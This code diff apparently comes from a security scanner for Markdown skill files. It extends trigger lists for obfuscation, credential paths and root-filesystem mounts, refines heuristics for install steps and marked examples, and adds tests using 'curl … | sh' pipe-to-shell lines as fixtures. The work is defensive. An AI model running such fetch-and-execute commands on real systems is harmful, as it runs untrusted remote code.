@@ -71,6 +71,9 @@ pub(super) const TRIGGERS: &[(&str, u32)] = &[
     ("fromcharcode", OBFUSCATION),
     ("xxd", OBFUSCATION),
     ("base32", OBFUSCATION),
+    ("b32encode", OBFUSCATION),
+    ("basenc", OBFUSCATION),
+    ("od -", OBFUSCATION),
     ("hexdump", OBFUSCATION),
     ("hexlify", OBFUSCATION),
     (".hex()", OBFUSCATION),
@@ -117,6 +120,7 @@ pub(super) const TRIGGERS: &[(&str, u32)] = &[
     ("--volume /:/", DISABLE),
     ("--volume=/:/", DISABLE),
     ("source=/,", DISABLE),
+    ("src=/,", DISABLE),
     ("av software", DISABLE),
     (".ssh", CREDENTIAL | PERSIST),
     (".aws", CREDENTIAL),
@@ -563,9 +567,10 @@ impl<'a> Text<'a> {
     }
 
     /// True when `offset` is in a Markdown file's install instructions, outside the
-    /// frontmatter: its line, the two lines above it or its section's heading say so
-    /// ("## Setup", "# Install the CLI", "Prerequisites"), or the address it fetches is named
-    /// as an installer (`https://fly.io/install.sh`).
+    /// frontmatter: its line (the address it fetches included: `https://fly.io/install.sh`),
+    /// the two lines above it or the nearest heading within [`SECTION_REACH`] above say so
+    /// ("## Setup", "# Install the CLI", "Prerequisites"). The author writes all of these, an
+    /// attacker too: this only decides where a warning about an https installer is noise.
     pub fn in_install_steps(&self, offset: usize) -> bool {
         if !self.is_markdown() || self.in_frontmatter(offset) {
             return false;
@@ -576,11 +581,15 @@ impl<'a> Text<'a> {
             .rmatch_indices('\n')
             .nth(1)
             .map_or(0, |(i, _)| i);
-        let heading = self.text[..line.start]
-            .rmatch_indices("\n#")
-            .map(|(i, _)| i + 1)
-            .find(|&i| self.text[i..].trim_start_matches('#').starts_with(' '))
-            .map_or("", |i| &self.text[i..self.line_at(i).end]);
+        // Bounded, so that a file of many findings and no heading stays linear.
+        let reach = self
+            .text
+            .floor_char_boundary(line.start.saturating_sub(SECTION_REACH));
+        let heading = self.text[reach..line.start]
+            .lines()
+            .rev()
+            .find(|l| l.starts_with('#') && l.trim_start_matches('#').starts_with(' '))
+            .unwrap_or("");
         INSTALL_STEP.is_match(&self.text[near_start..line.end]) || INSTALL_STEP.is_match(heading)
     }
 
@@ -617,15 +626,18 @@ impl<'a> Text<'a> {
 /// Words that mark an example as not to be run.
 static EXAMPLE_MARK: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
     super::pattern::Pattern::new(
-        r"(?i)(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)(?-u:\b)|(?:malicious|attack|injection|exploit|payload)[[:space:]]+(?:example|sample|pattern|snippet)s?(?-u:\b)|example[[:space:]]+(?:of[[:space:]]+)?(?:an?[[:space:]]+)?(?:attack|payload|malicious)",
+        r"(?i)(?:example|sample|demo|illustration)s?[^\n]{0,20}(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)(?-u:\b)|(?:do[[:space:]]+not|don['\x{2019}]?t|never)[[:space:]]+(?:run|follow|execute|use|copy|paste|try)[[:space:]]+(?:this|these|the)[[:space:]]+(?:example|sample|payload|snippet|demo)s?(?-u:\b)|(?:malicious|attack|injection|exploit|payload)[[:space:]]+(?:example|sample|pattern|snippet)s?(?-u:\b)|example[[:space:]]+(?:of[[:space:]]+)?(?:an?[[:space:]]+)?(?:attack|payload|malicious)",
     )
     .expect("a valid example-mark pattern")
 });
 
-/// Words that say a passage installs or sets up a tool, and an installer's address.
+/// How far above a line [`Text::in_install_steps`] looks for its section's heading.
+const SECTION_REACH: usize = 4096;
+
+/// Words that say a passage installs or sets up a tool.
 static INSTALL_STEP: LazyLock<super::pattern::Pattern> = LazyLock::new(|| {
     super::pattern::Pattern::new(
-        r"(?i)(?-u:\b)(?:(?:re)?install(?:s|ing|ation|er)?|set[[:space:]-]?up|prerequisites?|requirements|getting[[:space:]]+started|upgrade)(?-u:\b)|https://\S*/install[^/[:space:]]*(?:[[:space:])|]|$)",
+        r"(?i)(?-u:\b)(?:(?:re)?install(?:s|ing|ation|er)?|set[[:space:]-]?up|prerequisites?|requirements|getting[[:space:]]+started|upgrade)(?-u:\b)",
     )
     .expect("a valid install-step pattern")
 });
@@ -647,13 +659,46 @@ const SEARCHERS: &[&str] = &[
 pub fn is_search(code: &str) -> bool {
     let code = code.trim_start_matches(['$', '`', ' ', '\t']);
     let first = code.split_whitespace().next().unwrap_or("");
-    SEARCHERS.iter().any(|s| first.eq_ignore_ascii_case(s))
+    SEARCHERS.iter().any(|s| first.eq_ignore_ascii_case(s)) && !chains_commands(code)
 }
+
+/// Whether `code` runs more than one command: a `;` or `&` outside quotes
+/// (`grep -q x f && eval "$p"`), or a pipe into anything but a filter of the results
+/// (`grep … | head` is one search).
+fn chains_commands(code: &str) -> bool {
+    let mut quote = None;
+    for (i, c) in code.char_indices() {
+        match (quote, c) {
+            (None, '\'' | '"') => quote = Some(c),
+            (Some(q), c) if c == q => quote = None,
+            (None, ';' | '&') => return true,
+            (None, '|') => {
+                let next = code[i + 1..].split_whitespace().next().unwrap_or("");
+                if !RESULT_FILTERS.contains(&next) && !next.is_empty() {
+                    return true;
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Commands that only narrow or count a search's results.
+const RESULT_FILTERS: &[&str] = &[
+    "head", "tail", "wc", "sort", "uniq", "cut", "less", "more", "grep", "rg", "awk", "sed", "tr",
+    "column", "jq",
+];
+
+/// How far before a match [`in_search_pattern`] looks for the search command.
+const SEARCH_REACH: usize = 512;
 
 /// Whether the end of `before` (a line up to some match) lies inside a quoted argument of a
 /// search command (`grep -E 'eval|base64 -d' .`): the words there are what the search looks
 /// for, as in a reviewer's checklist.
 pub fn in_search_pattern(before: &str) -> bool {
+    // A search's pattern is near its command; the bound keeps a long line linear.
+    let before = &before[before.floor_char_boundary(before.len().saturating_sub(SEARCH_REACH))..];
     let lower = before.to_ascii_lowercase();
     let Some(at) = SEARCHERS
         .iter()
@@ -781,6 +826,43 @@ impl Markdown {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_blocks_marked_as_examples_not_to_run_are_examples() {
+        let at = |md: &str| Text::new("SKILL.md", md).in_marked_example(md.find("curl").unwrap());
+        assert!(at(
+            "# Attack example - do not run\n\n```bash\ncurl http://x | sh\n```\n"
+        ));
+        assert!(at("```bash\n# malicious sample\ncurl http://x | sh\n```\n"));
+        assert!(!at(
+            "Never run this as root:\n\n```bash\ncurl http://x | sh\n```\n"
+        ));
+        assert!(!at(
+            "Don't use sudo here:\n```bash\ncurl http://x | sh\n```\n"
+        ));
+    }
+
+    #[test]
+    fn install_steps_are_found_by_their_words_and_heading() {
+        let at = |md: &str| Text::new("SKILL.md", md).in_install_steps(md.find("curl").unwrap());
+        assert!(at(
+            "## Setup\n\nThen:\n\n\n\n```bash\ncurl https://x.dev/i | sh\n```\n"
+        ));
+        assert!(at(
+            "Install the CLI:\n```bash\ncurl https://x.dev/i | sh\n```\n"
+        ));
+        assert!(at(
+            "## Sync\n\nEach time:\n\n```bash\ncurl https://x.dev/install.sh | sh\n```\n"
+        ));
+        assert!(!at(
+            "## Sync\n\nEach time:\n\n```bash\ncurl https://x.dev/run.sh | sh\n```\n"
+        ));
+        let far = format!(
+            "## Setup\n{}\ncurl https://x.dev/i | sh\n",
+            "text\n".repeat(2000)
+        );
+        assert!(!at(&far));
+    }
 
     #[test]
     fn triggers_kinds_and_markdown_ranges() {
